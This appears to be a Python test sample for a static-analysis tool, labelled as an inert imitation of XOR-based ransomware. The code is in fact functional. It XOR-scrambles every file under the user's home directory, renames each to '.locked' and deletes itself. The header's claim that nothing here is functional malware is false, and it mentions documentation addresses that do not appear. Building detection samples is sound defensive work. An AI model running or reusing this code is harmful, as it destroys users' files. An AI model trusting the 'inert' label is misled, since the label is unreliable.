# INERT test sample for pyward's static analysis: never run it. Modelled on XOR-based ransomware scripts (rename to .locked, self-delete).
# Documented: MITRE ATT&CK T1486 examples
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import os, sys, pathlib
K = 0x5A
for path in pathlib.Path(os.path.expanduser('~')).rglob('*'):
    if path.is_file():
        data = bytearray(path.read_bytes())
        for i in range(len(data)):
            data[i] ^= K
        path.write_bytes(bytes(data))
        path.rename(str(path) + '.locked')
os.unlink(sys.argv[0])
